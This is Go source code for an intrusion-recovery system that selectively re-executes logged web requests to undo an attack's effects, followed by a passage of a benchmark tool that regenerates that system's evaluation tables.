	// PreciseReadCheck selects value-based dependency checks: a reader is
	// re-executed only if the value it would read now differs from what it
	// read originally. When false, the engine uses conservative key-level
	// tracking (any request that touched a repaired key or model is
	// re-executed) — the ablation baseline.
	PreciseReadCheck bool
	// LinearScan forces the pre-index repair walk: visit every record from
	// the earliest affected time and re-check each one's dependencies
	// (O(log × store)). When false (the default), the engine walks the
	// log's inverted read-dependency index and visits only readers of
	// rolled-back keys, scanners of touched models, and writers of touched
	// keys (O(affected)); the per-record hash re-checks are retained as the
	// correctness gate either way, so both walks repair the same records.
	// LinearScan is kept as the equivalence-test reference and the
	// before/after benchmark baseline.
	LinearScan bool
	// Verbose records a human-readable trace into Result.Trace.
	Verbose bool
}

// DefaultConfig is the configuration used by Aire's controller.
func DefaultConfig() Config { return Config{PreciseReadCheck: true} }

// Engine performs local repair for one service. The caller must hold
// Svc.Mu across Repair (normal execution and repair are mutually exclusive,
// §9).
type Engine struct {
	Svc *web.Service
	Cfg Config
}

// ErrNoSuchRequest is returned when an action names an unknown request.
var ErrNoSuchRequest = errors.New("warp: no such request")

// ErrGarbageCollected is returned when an action names a request whose log
// was garbage-collected; the peer must treat this service as permanently
// unavailable for that repair (§9).
var ErrGarbageCollected = errors.New("warp: request log garbage-collected")

type directive struct {
	cancel  bool
	replace bool
	input   wire.Request
	// fresh sender context for replace (the repair message's credentials
	// become the request's response-propagation route).
	from, clientRespID, notifierURL string
	hasSenderCtx                    bool
}

// Repair applies the given actions and selectively re-executes the service
// timeline.
func (e *Engine) Repair(actions []Action) (*Result, error) {
	start := time.Now()
	svc := e.Svc
	res := &Result{}
	// Phase timing: pure wall-clock reads between phases (no effect on
	// repair semantics or scheduling); failed repairs return before their
	// marks and simply leave the later durations zero.
	phaseStart := start
	markPhase := func(i int) {
		now := time.Now()
		res.PhaseDurations[i] = now.Sub(phaseStart)
		phaseStart = now
	}

	direct := make(map[string]*directive)
	var t0 int64 = -1
	observe := func(ts int64) {
		if t0 < 0 || ts < t0 {
			t0 = ts
		}
	}

	// Phase 0: validate every action before anything mutates. Phase 1
	// appends created records and rewrites call responses as it walks the
	// action list, so an invalid action (unknown request, GC'd target,
	// missing create anchor) discovered mid-list would otherwise leave the
	// earlier actions half-applied — a batched incoming queue
	// (ProcessIncoming) that then retries the batch would double-apply
	// them.
	for _, a := range actions {
		switch a.Kind {
		case CancelReq, ReplaceReq:
			if _, ok := svc.Log.Get(a.ReqID); !ok {
				if svc.Log.GCBefore() > 0 {
					return nil, fmt.Errorf("%w: %s", ErrGarbageCollected, a.ReqID)
				}
				return nil, fmt.Errorf("%w: %s", ErrNoSuchRequest, a.ReqID)
			}
		case CreateReq:
			if a.BeforeID != "" {
				if _, ok := svc.Log.TSOf(a.BeforeID); !ok {
					return nil, fmt.Errorf("%w: create anchor before_id %s", ErrNoSuchRequest, a.BeforeID)
				}
			}
			if a.AfterID != "" {
				if _, ok := svc.Log.TSOf(a.AfterID); !ok {
					return nil, fmt.Errorf("%w: create anchor after_id %s", ErrNoSuchRequest, a.AfterID)
				}
			}
		case ReplaceCallResp:
			if _, _, ok := svc.Log.FindByCallRespID(a.RespID); !ok {
				return nil, fmt.Errorf("%w: call response %s", ErrNoSuchRequest, a.RespID)
			}
		default:
			return nil, fmt.Errorf("warp: unknown action kind %v", a.Kind)
		}
	}
	markPhase(0)

	// Phase 1: apply action bookkeeping, locate the earliest affected time.
	for _, a := range actions {
		switch a.Kind {
		case CancelReq, ReplaceReq:
			rec, ok := svc.Log.Get(a.ReqID)
			if !ok {
				if svc.Log.GCBefore() > 0 {
					return nil, fmt.Errorf("%w: %s", ErrGarbageCollected, a.ReqID)
				}
				return nil, fmt.Errorf("%w: %s", ErrNoSuchRequest, a.ReqID)
			}
			d := direct[a.ReqID]
			if d == nil {
				d = &directive{}
				direct[a.ReqID] = d
			}
			if a.Kind == CancelReq {
				d.cancel = true
			} else {
				d.replace, d.cancel = true, false
				d.input = a.NewReq
				d.from, d.clientRespID, d.notifierURL = a.From, a.ClientRespID, a.NotifierURL
				d.hasSenderCtx = true
			}
			observe(rec.TS)

		case CreateReq:
			var tsBefore, tsAfter int64
			if a.BeforeID != "" {
				ts, ok := svc.Log.TSOf(a.BeforeID)
				if !ok {
					return nil, fmt.Errorf("%w: create anchor before_id %s", ErrNoSuchRequest, a.BeforeID)
				}
				tsBefore = ts
			}
			if a.AfterID != "" {
				ts, ok := svc.Log.TSOf(a.AfterID)
				if !ok {
					return nil, fmt.Errorf("%w: create anchor after_id %s", ErrNoSuchRequest, a.AfterID)
				}
				tsAfter = ts
			}
			ts, err := svc.Clock.Between(tsBefore, tsAfter)
			if err != nil {
				return nil, fmt.Errorf("warp: placing created request: %w", err)
			}
			rec := &repairlog.Record{
				ID:           svc.IDs.Request(),
				TS:           ts,
				From:         a.From,
				ClientRespID: a.ClientRespID,
				NotifierURL:  a.NotifierURL,
				Req:          a.NewReq,
				Synthetic:    true,
			}
			if err := svc.Log.Append(rec); err != nil {
				return nil, err
			}
			direct[rec.ID] = &directive{replace: true, input: a.NewReq,
				from: a.From, clientRespID: a.ClientRespID, notifierURL: a.NotifierURL, hasSenderCtx: true}
			res.CreatedIDs = append(res.CreatedIDs, rec.ID)
			observe(ts)

		case ReplaceCallResp:
			rec, i, ok := svc.Log.FindByCallRespID(a.RespID)
			if !ok {
				return nil, fmt.Errorf("%w: call response %s", ErrNoSuchRequest, a.RespID)
			}
			newResp := a.NewResp
			remoteID := a.RemoteReqID
			_ = svc.Log.Update(rec.ID, func(r *repairlog.Record) {
				r.Calls[i].Resp = newResp
				r.Calls[i].Tentative = false
				if remoteID != "" {
					r.Calls[i].RemoteReqID = remoteID
				}
			})
			if direct[rec.ID] == nil {
				direct[rec.ID] = &directive{}
			}
			observe(rec.TS)

		default:
			return nil, fmt.Errorf("warp: unknown action kind %v", a.Kind)
		}
	}
	if t0 < 0 {
		return nil, errors.New("warp: repair invoked with no actions")
	}
	markPhase(1)

	// Phase 2: walk the timeline — every record whose recorded dependencies
	// no longer match the (partially repaired) store is re-executed. The
	// indexed walk visits only plausible candidates; the linear walk visits
	// everything after t0. Both apply the same per-record dependency gate.
	if e.Cfg.LinearScan {
		e.walkLinear(t0, direct, res)
	} else {
		e.walkIndexed(direct, res)
	}
	markPhase(2)

	// Phase 3: totals, from the log's maintained counters (the pre-index
	// engine walked the whole log here too).
	res.TotalRequests = svc.Log.Len()
	res.TotalModelOps = svc.Log.TotalModelOps()
	markPhase(3)
	res.Duration = time.Since(start)
	return res, nil
}

// processRecord runs one timeline record through the repair gate and, if it
// is directed or affected, cancels or re-executes it. taint is told about
// every key whose versions this step rolled back or rewrote — the state
// changes that can make later records affected.
func (e *Engine) processRecord(rec *repairlog.Record, d *directive, res *Result,
	touchedKeys map[vdb.Key]bool, touchedModels map[string]bool, taint func([]repairlog.WriteDep)) {
	if rec.Skipped && d == nil {
		return // stays cancelled
	}
	if d == nil && !e.affected(rec, touchedKeys, touchedModels) {
		return
	}
	old := rec.Clone()

	if d != nil && d.cancel {
		e.cancel(rec, old, res)
		taint(old.Writes)
		return
	}

	input := rec.Req
	if d != nil && d.replace {
		input = d.input
	}
	e.reexecute(rec, old, input, d, res)
	taint(old.Writes)
	taint(rec.Writes)
}

// walkLinear is the pre-index Phase 2: visit every record from the earliest
// affected time (Config.LinearScan — the equivalence reference and ablation
// baseline).
func (e *Engine) walkLinear(t0 int64, direct map[string]*directive, res *Result) {
	touchedKeys := make(map[vdb.Key]bool)
	touchedModels := make(map[string]bool)
	taint := func(deps []repairlog.WriteDep) {
		for _, w := range deps {
			touchedKeys[w.Key] = true
			touchedModels[w.Key.Model] = true
		}
	}
	for _, rec := range e.Svc.Log.From(t0) {
		e.processRecord(rec, direct[rec.ID], res, touchedKeys, touchedModels, taint)
	}
}

// refHeap is a min-heap of timeline references ordered by (TS, insertion
// seq) — the exact order a full timeline walk visits records.
type refHeap []repairlog.Ref

func (h refHeap) Len() int           { return len(h) }
func (h refHeap) Less(i, j int) bool { return h[i].Less(h[j]) }
func (h refHeap) Swap(i, j int)      { h[i], h[j] = h[j], h[i] }
func (h *refHeap) Push(x any)        { *h = append(*h, x.(repairlog.Ref)) }
func (h *refHeap) Pop() any          { old := *h; n := len(old); x := old[n-1]; *h = old[:n-1]; return x }

// walkIndexed is the O(affected) Phase 2: a candidate min-heap seeded with
// the directed records, extended — whenever a processed record rolls back or
// rewrites a key — with the readers and writers of that key and the
// scanners of its model, straight from the log's inverted dependency index.
//
// Correctness relies on two invariants. First, a record's dependency check
// can only start failing when some key it read (or model it scanned, or key
// it wrote) is mutated by this repair pass, and every such mutation happens
// in processRecord on a write-dep key — so index candidates are a superset
// of the records the linear walk would re-execute, and the retained hash
// re-checks gate out the rest. Second, a record at time t only mutates
// store state at timestamps >= t, so candidates are discovered in
// non-decreasing timeline order and each record's gate runs with exactly
// the store state the linear walk would have shown it.
func (e *Engine) walkIndexed(direct map[string]*directive, res *Result) {
	log := e.Svc.Log
	touchedKeys := make(map[vdb.Key]bool)
	touchedModels := make(map[string]bool)

	var h refHeap
	pushed := make(map[string]bool, len(direct))
	push := func(ref repairlog.Ref) {
		if !pushed[ref.Rec.ID] {
			pushed[ref.Rec.ID] = true
			heap.Push(&h, ref)
		}
	}
	for id := range direct {
		if ref, ok := log.RefOf(id); ok {
			push(ref)
		}
	}

	var cur repairlog.Ref
	taint := func(deps []repairlog.WriteDep) {
		for _, w := range deps {
			if touchedKeys[w.Key] {
				// Tainted at an earlier (or equal) walk position: that
				// query already pushed a superset of this one's candidates.
				continue
			}
			touchedKeys[w.Key] = true
			// Strictly after (cur.TS, cur.Seq): a same-TS record ordered
			// before cur already passed its gate against the pre-mutation
			// store, exactly as the linear walk would have.
			for _, ref := range log.ReadersOf(w.Key, cur.TS, cur.Seq) {
				push(ref)
			}
			for _, ref := range log.WritersOf(w.Key, cur.TS, cur.Seq) {
				push(ref)
			}
			if !touchedModels[w.Key.Model] {
				touchedModels[w.Key.Model] = true
				for _, ref := range log.ScannersOf(w.Key.Model, cur.TS, cur.Seq) {
					push(ref)
				}
			}
		}
	}
	for h.Len() > 0 {
		cur = heap.Pop(&h).(repairlog.Ref)
		e.processRecord(cur.Rec, direct[cur.Rec.ID], res, touchedKeys, touchedModels, taint)
	}
}

// affected re-evaluates the request's recorded dependencies against the
// current (partially repaired) store.
func (e *Engine) affected(rec *repairlog.Record, touchedKeys map[vdb.Key]bool, touchedModels map[string]bool) bool {
	st := e.Svc.Store
	if e.Cfg.PreciseReadCheck {
		// Own writes are masked: a read dependency fingerprints what the
		// request observed from other requests.
		for _, r := range rec.Reads {
			if st.HashAtExcluding(r.Key, rec.TS, rec.ID) != r.Hash {
				return true
			}
		}
		for _, s := range rec.Scans {
			if st.ScanHashAtExcluding(s.Model, rec.TS, rec.ID) != s.Hash {
				return true
			}
		}
	} else {
		for _, r := range rec.Reads {
			if touchedKeys[r.Key] {
				return true
			}
		}
		for _, s := range rec.Scans {
			if touchedModels[s.Model] {
				return true
			}
		}
	}
	// Writes rolled back by an earlier re-execution must be redone
	// ("queries that might have modified the rows that have been rolled
	// back", §2.1).
	for _, w := range rec.Writes {
		if !st.HasVersion(w.Key, w.TS, rec.ID) {
			return true
		}
	}
	return false
}

// cancel undoes a request: its writes are rolled back and its outgoing
// calls are deleted on the peers.
func (e *Engine) cancel(rec, old *repairlog.Record, res *Result) {
	for _, w := range old.Writes {
		e.Svc.Store.Rollback(w.Key, rec.TS-1)
	}
	for _, c := range old.Calls {
		if c.RemoteReqID == "" {
			res.Notices = append(res.Notices, Notice{
				Kind:   NoticeNoPropagation,
				ReqID:  rec.ID,
				Detail: fmt.Sprintf("cancelled request made a call to %s with no Aire identifiers; manual recovery needed", c.Target),
			})
			continue
		}
		// Req rides along as the credential source: the peer's access
		// control verifies the delete against the principal that issued the
		// original request (§4, §7.2).
		res.Msgs = append(res.Msgs, OutMsg{Kind: OutDelete, Target: c.Target, RemoteReqID: c.RemoteReqID, Req: c.Req.Clone()})
	}
	// A cancelled request that read confidential data definitely observed
	// something it should not have (§9): it never runs during replay.
	for _, r := range old.Reads {
		if r.Hash != vdb.MissingHash && e.Svc.Store.IsConfidential(r.Key) {
			res.Notices = append(res.Notices, Notice{
				Kind:   NoticeLeak,
				ReqID:  rec.ID,
				Detail: fmt.Sprintf("cancelled request had read confidential object %v", r.Key),
			})
		}
	}
	for _, ef := range old.Effects {
		res.Notices = append(res.Notices, Notice{
			Kind:   NoticeCompensation,
			ReqID:  rec.ID,
			Detail: fmt.Sprintf("external effect %q of cancelled request cannot be undone (payload: %s)", ef.Kind, ef.Payload),
		})
	}
	_ = e.Svc.Log.Update(rec.ID, func(r *repairlog.Record) {
		r.Skipped = true
		r.Reads, r.Scans, r.Writes, r.Calls, r.Effects = nil, nil, nil, nil, nil
		r.Resp = wire.NewResponse(410, "request cancelled by repair")
		r.RepairGen++
	})
	res.RepairedRequests++
	res.RepairedModelOps += len(old.Reads) + len(old.Scans) + len(old.Writes)
	e.trace(res, "cancel %s (%s %s)", rec.ID, old.Req.Method, old.Req.Path)
}

// reexecute replays one request with (possibly corrected) input, diffing its
// outgoing calls, response, and effects against the previous execution.
func (e *Engine) reexecute(rec, old *repairlog.Record, input wire.Request, d *directive, res *Result) {
	// Roll back this request's own writes to just before its execution
	// time; later versions of those keys are removed too, and their writers
	// re-execute when the walk reaches them (rollback-redo).
	for _, w := range old.Writes {
		e.Svc.Store.Rollback(w.Key, rec.TS-1)
	}

	executedBefore := old.Resp.Status != 0
	gen := rec.RepairGen
	if executedBefore {
		gen++
	}

	rec.Req = input
	if d != nil && d.hasSenderCtx {
		// The repair message sender becomes the response's recipient.
		rec.From = d.from
		rec.ClientRespID = d.clientRespID
		rec.NotifierURL = d.notifierURL
	}

	diff := &callDiff{engine: e, rec: rec, old: old.Calls, res: res}
	exec := &web.Exec{
		Svc:      e.Svc,
		Rec:      rec,
		Mode:     web.Replay,
		Gen:      gen,
		Outbound: diff.outbound,
	}
	resp := exec.Run()
	rec.RepairGen = gen
	rec.Skipped = false
	diff.finish()
	// The record's calls and dependencies were rewritten in place (the
	// handler ran between reading the old state and committing the new);
	// bring the log's secondary indexes back in line with it.
	_ = e.Svc.Log.Resync(rec.ID)

	// Response propagation (§3.2: "if re-execution changes the response of
	// a previously executed request, or computes the response for a newly
	// created request, Aire queues a replace_response message").
	respChanged := !executedBefore || !resp.Equal(old.Resp)
	if respChanged {
		if rec.ClientRespID != "" && rec.NotifierURL != "" {
			res.Msgs = append(res.Msgs, OutMsg{
				Kind:        OutReplaceResponse,
				RespID:      rec.ClientRespID,
				Resp:        resp.Clone(),
				NotifierURL: rec.NotifierURL,
				LocalReqID:  rec.ID,
			})
		} else if executedBefore && rec.From == "" {
			// Browser/non-Aire client: nothing to send (the paper's Askbot
			// experiment likewise sends no replace_response for requests
			// lacking an Aire-Notifier-URL header, §8.2).
			e.trace(res, "response of %s changed; client has no notifier", rec.ID)
		}
	}

	e.diffEffects(rec, old, res)
	e.checkLeaks(rec, old, res)

	res.RepairedRequests++
	res.RepairedModelOps += len(rec.Reads) + len(rec.Scans) + len(rec.Writes)
	e.trace(res, "re-execute %s gen=%d (%s %s) -> %d", rec.ID, gen, input.Method, input.Path, resp.Status)
}

// diffEffects compares external effects before and after re-execution;
// changed or new effects cannot be performed retroactively, so they become
// compensating-action notices (§7.1).
func (e *Engine) diffEffects(rec, old *repairlog.Record, res *Result) {
	oldBy := make(map[int]repairlog.Effect, len(old.Effects))
	for _, ef := range old.Effects {
		oldBy[ef.Seq] = ef
	}
	for _, ef := range rec.Effects {
		prev, had := oldBy[ef.Seq]
		delete(oldBy, ef.Seq)
		if had && prev.Kind == ef.Kind && prev.Payload == ef.Payload {
			continue
		}
		res.Notices = append(res.Notices, Notice{
			Kind:   NoticeCompensation,
			ReqID:  rec.ID,
			Detail: fmt.Sprintf("external effect %q changed under repair; corrected payload: %s", ef.Kind, ef.Payload),
		})
	}
	for _, prev := range oldBy {
		res.Notices = append(res.Notices, Notice{
			Kind:   NoticeCompensation,
			ReqID:  rec.ID,
			Detail: fmt.Sprintf("external effect %q should not have been performed (original payload: %s)", prev.Kind, prev.Payload),
		})
	}
}

// checkLeaks reports confidential objects that were read during original
// execution but not during replay — evidence the attack observed data it
// should not have (§9).
func (e *Engine) checkLeaks(rec, old *repairlog.Record, res *Result) {
	newReads := make(map[vdb.Key]bool, len(rec.Reads))
	for _, r := range rec.Reads {
		if r.Hash != vdb.MissingHash {
			newReads[r.Key] = true
		}
	}
	for _, r := range old.Reads {
		if r.Hash == vdb.MissingHash || !e.Svc.Store.IsConfidential(r.Key) {
			continue
		}
		if !newReads[r.Key] {
			res.Notices = append(res.Notices, Notice{
				Kind:   NoticeLeak,
				ReqID:  rec.ID,
				Detail: fmt.Sprintf("request read confidential object %v during original execution but not during repair", r.Key),
			})
		}
	}
}

func (e *Engine) trace(res *Result, format string, args ...any) {
	if e.Cfg.Verbose {
		res.Trace = append(res.Trace, fmt.Sprintf("[%s] ", e.Svc.Name)+fmt.Sprintf(format, args...))
	}
}

// callDiff matches a re-execution's outgoing calls against the logged ones
// (§3.2): a semantically identical call reuses the logged response (the
// network is not touched); a changed call queues a replace; a brand-new call
// queues a create; logged calls never re-issued queue deletes.
type callDiff struct {
	engine *Engine
	rec    *repairlog.Record
	old    []repairlog.Call
	res    *Result
	oi     int // next unmatched original call
}

func (cd *callDiff) outbound(seq int, target string, req wire.Request) (wire.Response, repairlog.Call) {
	key := req.CanonicalKey()

	// Exact match at the cursor?
	if cd.oi < len(cd.old) {
		if c := cd.old[cd.oi]; c.Target == target && c.Req.CanonicalKey() == key {
			cd.oi++
			return c.Resp.Clone(), c
		}
	}
	// Match further ahead? Everything skipped over was deleted.
	for j := cd.oi + 1; j < len(cd.old); j++ {
		if c := cd.old[j]; c.Target == target && c.Req.CanonicalKey() == key {
			for _, dropped := range cd.old[cd.oi:j] {
				cd.deleteCall(dropped)
			}
			cd.oi = j + 1
			return c.Resp.Clone(), c
		}
	}
	// No match. Same target at the cursor => the call's content changed:
	// replace it on the peer, keeping its remote request identity.
	if cd.oi < len(cd.old) && cd.old[cd.oi].Target == target {
		orig := cd.old[cd.oi]
		cd.oi++
		return cd.replaceCall(orig, target, req)
	}
	// Brand-new call: create it in the past on the peer.
	return cd.createCall(seq, target, req)
}

func (cd *callDiff) replaceCall(orig repairlog.Call, target string, req wire.Request) (wire.Response, repairlog.Call) {
	svc := cd.engine.Svc
	if orig.RemoteReqID == "" {
		cd.res.Notices = append(cd.res.Notices, Notice{
			Kind:   NoticeNoPropagation,
			ReqID:  cd.rec.ID,
			Detail: fmt.Sprintf("changed call to %s cannot be repaired: no Aire identifiers on original call", target),
		})
		resp := wire.NewResponse(wire.StatusTimeout, "aire: repair pending (unpropagatable)")
		return resp, repairlog.Call{Target: target, Req: req.Clone(), Resp: resp, Tentative: true}
	}
	respID := svc.IDs.Response()
	cd.res.Msgs = append(cd.res.Msgs, OutMsg{
		Kind:        OutReplace,
		Target:      target,
		RemoteReqID: orig.RemoteReqID,
		Req:         req.Clone(),
		RespID:      respID,
		CallRespID:  respID,
	})
	// Local repair cannot block on the peer (§3.2): hand the handler a
	// tentative timeout; the peer's replace_response will correct it.
	resp := wire.NewResponse(wire.StatusTimeout, "aire: repair pending")
	call := repairlog.Call{
		Target:      target,
		RespID:      respID,
		RemoteReqID: orig.RemoteReqID,
		Req:         req.Clone(),
		Resp:        resp,
		Tentative:   true,
	}
	return resp.Clone(), call
}

func (cd *callDiff) createCall(seq int, target string, req wire.Request) (wire.Response, repairlog.Call) {
	svc := cd.engine.Svc
	respID := svc.IDs.Response()
	beforeID, afterID := svc.Log.NeighborCalls(target, cd.rec.TS)
	cd.res.Msgs = append(cd.res.Msgs, OutMsg{
		Kind:       OutCreate,
		Target:     target,
		Req:        req.Clone(),
		RespID:     respID,
		BeforeID:   beforeID,
		AfterID:    afterID,
		CallRespID: respID,
	})
	resp := wire.NewResponse(wire.StatusTimeout, "aire: repair pending")
	call := repairlog.Call{
		Target:    target,
		RespID:    respID,
		Req:       req.Clone(),
		Resp:      resp,
		Tentative: true,
	}
	return resp.Clone(), call
}

func (cd *callDiff) deleteCall(c repairlog.Call) {
	if c.RemoteReqID == "" {
		cd.res.Notices = append(cd.res.Notices, Notice{
			Kind:   NoticeNoPropagation,
			ReqID:  cd.rec.ID,
			Detail: fmt.Sprintf("dropped call to %s cannot be deleted remotely: no Aire identifiers", c.Target),
		})
		return
	}
	cd.res.Msgs = append(cd.res.Msgs, OutMsg{Kind: OutDelete, Target: c.Target, RemoteReqID: c.RemoteReqID, Req: c.Req.Clone()})
}

// finish queues deletes for logged calls the re-execution never re-issued.
func (cd *callDiff) finish() {
	for _, c := range cd.old[cd.oi:] {
		cd.deleteCall(c)
	}
	cd.oi = len(cd.old)
}
