// Command airebench regenerates the paper's evaluation tables:
//
//	airebench -table 3            # Table 3: API survey
//	airebench -table 4 [-n -seed] # Table 4: normal-operation overhead
//	airebench -table 5 [-users -posts]  # Table 5: repair performance
//	airebench -table porting      # §7.3: server-side porting effort
//	airebench -table bench4 [-iters -out BENCH_4.json]
//	                              # ISSUE 4: O(affected) repair scaling,
//	                              # indexed vs pre-index walk, optionally
//	                              # written as machine-readable JSON
//	airebench -table bench5 [-dur -rps -peers -out BENCH_5.json]
//	                              # ISSUE 7: repair-plane under load —
//	                              # closed-loop mixed workload over real
//	                              # HTTP with adaptive batching + admission
//	airebench -table bench5 -shards 1,2,4 -rps -1 -opdelay 2ms [-wal]
//	                              # ISSUE 10: hub shard-scaling table —
//	                              # one unpaced run per shard count, max
//	                              # closed-loop throughput vs shard count
//	airebench -table all
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"log"
	"os"
	"strconv"
	"strings"
	"time"

	"aire/internal/core"
	"aire/internal/harness"
)

func main() {
	table := flag.String("table", "all", "table to regenerate: 3, 4, 5, porting, sweep, bench4, all")
	n := flag.Int("n", 2000, "requests per Table 4 workload")
	seed := flag.Int("seed", 500, "questions pre-seeded for Table 4")
	users := flag.Int("users", 100, "legitimate users for Table 5")
	posts := flag.Int("posts", 5, "posts per user for Table 5")
	iters := flag.Int("iters", 200, "timed repair passes per bench4 point")
	out := flag.String("out", "", "write bench4/bench5 results as JSON to this file")
	dur := flag.Duration("dur", 5*time.Second, "paced-load duration for bench5")
	rps := flag.Int("rps", 300, "target mirror-traffic rate for bench5 (negative = unpaced: max closed-loop throughput)")
	peers := flag.Int("peers", 3, "mirror peers behind the bench5 hub")
	clients := flag.Int("clients", 0, "closed-loop client count for bench5 (0 = default)")
	shards := flag.String("shards", "1", "comma-separated hub shard counts for bench5; more than one value emits the shard-scaling table (one run per count)")
	walOn := flag.Bool("wal", false, "attach a write-ahead log to the bench5 hub (one per shard when sharded)")
	opDelay := flag.Duration("opdelay", 0, "blocking backend work per bench5 hub put, spent under the per-shard service lock (models a database round trip; makes lock serialization measurable on small hosts)")
	waves := flag.String("waves", "", "write the bench5 run's /aire/debug/waves dump as JSON to this file")
	flag.Parse()

	switch *table {
	case "3":
		table3()
	case "4":
		table4(*n, *seed)
	case "5":
		table5(*users, *posts)
	case "porting":
		porting()
	case "sweep":
		sweep(*posts)
	case "bench4":
		bench4(os.Stdout, *iters, *out)
	case "bench5":
		shardCounts, err := parseShards(*shards)
		if err != nil {
			fmt.Fprintln(os.Stderr, "airebench:", err)
			os.Exit(2)
		}
		bench5(os.Stdout, *dur, *rps, *peers, *clients, shardCounts, *walOn, *opDelay, *out, *waves)
	case "all":
		table3()
		fmt.Println()
		table4(*n, *seed)
		fmt.Println()
		table5(*users, *posts)
		fmt.Println()
		porting()
	default:
		fmt.Fprintf(os.Stderr, "unknown table %q\n", *table)
		os.Exit(2)
	}
}

// bench4Doc is the schema of BENCH_4.json: the machine-readable repair
// scaling trajectory for ISSUE 4 (O(affected) local repair).
type bench4Doc struct {
	Issue       int                    `json:"issue"`
	Description string                 `json:"description"`
	GeneratedBy string                 `json:"generated_by"`
	Readers     int                    `json:"affected_readers"`
	Iters       int                    `json:"iters_per_point"`
	Points      []harness.ScalingPoint `json:"points"`
}

func bench4(w io.Writer, iters int, out string) {
	const readers = 10
	sizes := []int{0, 500, 2000}
	fmt.Fprintln(w, "== ISSUE 4: repair scaling with unaffected traffic (indexed vs pre-index walk) ==")
	points, err := harness.MeasureRepairScaling(sizes, readers, iters)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Fprintf(w, "%-12s %10s %14s %14s %9s %10s %12s %13s\n",
		"unaffected", "log-size", "indexed", "linear", "speedup", "repaired", "db-idx-bytes", "log-idx-bytes")
	for _, p := range points {
		fmt.Fprintf(w, "%-12d %10d %11d ns %11d ns %8.1fx %10d %12d %13d\n",
			p.Unaffected, p.LogRecords, p.IndexedNs, p.LinearNs, p.Speedup, p.Repaired, p.DBIndexBytes, p.LogIndexBytes)
	}
	fmt.Fprintln(w, "(claim: indexed repair time stays roughly flat as unrelated traffic grows; the pre-index walk grows linearly)")
	fmt.Fprintln(w, "(db-idx/log-idx: approximate secondary-index memory — the speedup's storage price, excluded from Table 4's paper-mirroring accounting)")
	if out == "" {
		return
	}
	doc := bench4Doc{
		Issue:       4,
		Description: "Repair cost with a fixed affected slice (1 attacked put + readers) as unrelated log/store size grows. indexed = inverted-dependency-index walk (default engine), linear = retained pre-index full-timeline walk.",
		GeneratedBy: "go run ./cmd/airebench -table bench4 -out BENCH_4.json",
		Readers:     readers,
		Iters:       iters,
		Points:      points,
	}
	writeJSON(out, doc)
}

// bench5Doc is the schema of BENCH_5.json: the repair-plane-under-load
// measurements for ISSUE 7, and (when more than one shard count was
// requested) the ISSUE 10 hub shard-scaling table. Result stays the
// single-configuration field earlier tooling reads; Scaling holds one
// entry per shard count, in the order run.
type bench5Doc struct {
	Issue       int                   `json:"issue"`
	Description string                `json:"description"`
	GeneratedBy string                `json:"generated_by"`
	Result      *harness.LoadResult   `json:"result"`
	Scaling     []*harness.LoadResult `json:"scaling,omitempty"`
}

// parseShards accepts a comma-separated list of shard counts ("1,2,4").
func parseShards(s string) ([]int, error) {
	var out []int
	for _, part := range strings.Split(s, ",") {
		v, err := strconv.Atoi(strings.TrimSpace(part))
		if err != nil || v < 1 {
			return nil, fmt.Errorf("bad shard count %q (want a positive integer)", part)
		}
		out = append(out, v)
	}
	if len(out) == 0 {
		out = []int{1}
	}
	return out, nil
}

// writeJSON writes v to path as indented JSON.
func writeJSON(path string, v any) {
	f, err := os.Create(path)
	if err != nil {
		log.Fatal(err)
	}
	enc := json.NewEncoder(f)
	enc.SetIndent("", "  ")
	if err := enc.Encode(v); err != nil {
		log.Fatal(err)
	}
	if err := f.Close(); err != nil {
		log.Fatal(err)
	}
	fmt.Printf("wrote %s\n", path)
}

func bench5(w io.Writer, dur time.Duration, rps, peers, clients int, shardCounts []int, walOn bool, opDelay time.Duration, out, wavesOut string) {
	if len(shardCounts) > 1 {
		fmt.Fprintln(w, "== ISSUE 10: hub shard scaling (closed-loop mixed workload over real HTTP, one run per shard count) ==")
	} else {
		fmt.Fprintln(w, "== ISSUE 7: repair-plane under load (closed-loop mixed workload over real HTTP) ==")
	}
	results := make([]*harness.LoadResult, 0, len(shardCounts))
	for _, n := range shardCounts {
		res, err := harness.RunLoad(harness.LoadConfig{
			Peers:       peers,
			Clients:     clients,
			TargetRPS:   rps,
			Duration:    dur,
			RepairEvery: 20,
			Shards:      n,
			WAL:         walOn,
			OpDelay:     opDelay,
			BatchPolicy: core.DefaultAdaptiveBatch(),
			Admission:   core.DefaultAdmission(),
		})
		if err != nil {
			log.Fatal(err)
		}
		results = append(results, res)
		if len(shardCounts) == 1 {
			fmt.Fprint(w, harness.FormatLoad(res))
			fmt.Fprintln(w, "(mirror = client-visible paced puts; repair = delete-cascade carrier sojourn from the obs span ring; adaptive batching + admission control on)")
		}
	}
	if len(shardCounts) > 1 {
		fmt.Fprintf(w, "%-7s %12s %10s %12s %12s %8s\n",
			"shards", "mirror-rps", "puts", "mirror-p50", "mirror-p99", "errors")
		for _, res := range results {
			var mirror harness.LoadClass
			for _, c := range res.Classes {
				if c.Name == "mirror" {
					mirror = c
				}
			}
			fmt.Fprintf(w, "%-7d %12.1f %10d %10.2fms %10.2fms %8d\n",
				res.Shards, mirror.RPS, mirror.Count, mirror.P50Ms, mirror.P99Ms, res.Errors)
		}
		fmt.Fprintln(w, "(claim: the hub put path serializes on one service lock — -opdelay is the modeled backend work held under it — so N shards = N independent locks/stores/logs and unpaced closed-loop throughput rises with shard count)")
	}
	last := results[len(results)-1]
	if wavesOut != "" {
		// The same document /aire/debug/waves serves — the non-gating CI
		// artifact, so a CI run's repair cascades can be inspected later.
		writeJSON(wavesOut, last.Waves)
	}
	if out == "" {
		return
	}
	doc := bench5Doc{
		Issue:       7,
		Description: "Closed-loop mixed load against a mirroring hub over the real HTTP adapter: paced mirror puts (client round-trip latency) plus periodic repair cascades (queue sojourn of delete carriers, sourced from the observability span ring), with the pooled HTTP client, adaptive batch sizing, and sender-side admission control enabled.",
		GeneratedBy: fmt.Sprintf("go run ./cmd/airebench -table bench5 -dur %s -rps %d -peers %d -out BENCH_5.json", dur, rps, peers),
		Result:      results[0],
	}
	if len(shardCounts) > 1 {
		doc.Issue = 10
		doc.Description = "Hub shard-scaling table: the ISSUE 7 closed-loop workload re-run once per hub shard count. Negative -rps runs unpaced (max closed-loop throughput) and -opdelay models blocking backend work under the per-shard service lock, so the table isolates the hub's service-lock serialization: N shards behind the key-hash router mean N independent locks, stores, repair logs, and (with -wal) WALs."
